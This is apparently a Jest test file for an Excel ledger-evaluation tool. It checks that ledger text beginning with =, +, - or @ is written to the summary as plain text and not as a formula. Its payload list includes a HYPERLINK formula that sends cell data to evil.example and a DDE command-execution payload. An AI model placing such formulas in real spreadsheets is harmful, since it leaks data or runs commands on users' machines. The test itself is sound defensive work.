/**
 * Issue #5, part 4 (SPEC §8: "Text copied from the ledger into the summary is written as text: a
 * description beginning with =, +, - or @ is not evaluated as a formula"): ledger text beginning with
 * each of them, in every text field the summary or the 评估意见 column can repeat (description, unit,
 * owner, seq, status, deadline), lands as text — on the Excel double (no cell of ours holds a formula
 * with the payload) and in the .xlsx copy (the sheet XML has no <f> around it).
 */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { SUMMARY_SHEET_NAME } from "../../src/core/plan/marks-plan";
import { DEFAULT_SETTINGS } from "../../src/core/settings";
import { rawCells } from "../support/xlsx-package";
import { cli, harness } from "../support/reliability";

const TODAY = "2025-03-31";
const SHEET = "台账";
const HEADER = ["序号", "问题描述", "整改措施", "责任单位", "责任人", "整改时限", "整改状态"];
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"];
/** A piece of each payload no formula of ours contains. */
const MARKERS = ["evil.example", "cmd|", "-2+3", "SUM(1,2)"];

/** One item per payload, the payload in every text field that is copied somewhere; all red so they are listed. */
const rows: (string | number | null)[][] = [
  HEADER,
  ...PAYLOADS.map((p, i) => [
    `${p}${i}`,
    `${p} 描述`,
    "修订《办法》",
    `${p} 单位`,
    `${p} 人`,
    "2025年1月1日",
    `${p} 状态`,
  ]),
];

describe("the Excel host", () => {
  it("writes every payload as text in the summary and the owned columns, never as a formula", async () => {
    // The double takes a value beginning with ' as text, as Excel does: that is how the user typed these.
    const { host, double } = harness({
      sheets: [
        {
          name: SHEET,
          rows: rows.map((r) => r.map((v) => (typeof v === "string" && /^[=+\-@]/.test(v) ? `'${v}` : v))),
        },
      ],
    });
    const outcome = await host.evaluate({ source: { kind: "active" }, today: TODAY, settings: DEFAULT_SETTINGS });
    if (!outcome.ok) throw new Error(outcome.error.message.en);
    expect(outcome.value.result.items).toHaveLength(PAYLOADS.length);
    expect((await host.writeSummary(outcome.value, DEFAULT_SETTINGS)).ok).toBe(true);

    const snapshot = double.snapshot();
    const summary = snapshot.sheets.find((s) => s.name === SUMMARY_SHEET_NAME);
    const ledger = snapshot.sheets.find((s) => s.name === SHEET);
    const ours = [
      ...Object.values(summary?.cells ?? {}),
      ...Object.entries(ledger?.cells ?? {})
        .filter(([address]) => /^[HI]\d+$/.test(address))
        .map(([, cell]) => cell),
    ];
    const summaryTexts = Object.values(summary?.cells ?? {}).map((c) => String(c.value ?? ""));
    for (const payload of PAYLOADS) {
      expect(summaryTexts).toContain(`${payload} 描述`);
    }
    for (const cell of ours) for (const marker of MARKERS) expect(cell.formula ?? "").not.toContain(marker);
  });
});

describe("the .xlsx copy (CLI --out)", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "zgtz-inject-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("stores every payload as a string cell: no <f> in the summary or the owned columns", async () => {
    const input = join(dir, "注入.xlsx");
    const out = join(dir, "注入-评估.xlsx");
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet(SHEET).addRows(rows);
    await workbook.xlsx.writeFile(input);
    const outcome = await cli(["evaluate", input, "--today", TODAY, "--out", out]);
    expect({ code: outcome.code, stderr: outcome.stderr }).toEqual({ code: 0, stderr: "" });

    const summary = [...rawCells(out, SUMMARY_SHEET_NAME).values()];
    const ledger = [...rawCells(out, SHEET).entries()].filter(([a]) => /^[HI]\d+$/.test(a)).map(([, c]) => c);
    for (const payload of PAYLOADS) {
      const cell = summary.find((c) => c.value === `${payload} 描述`);
      expect(cell).toMatchObject({ formula: null });
      expect(["s", "str", "inlineStr"]).toContain(cell?.type);
    }
    for (const c of [...summary, ...ledger])
      for (const marker of MARKERS) expect(c.formula ?? "").not.toContain(marker);
  });
});
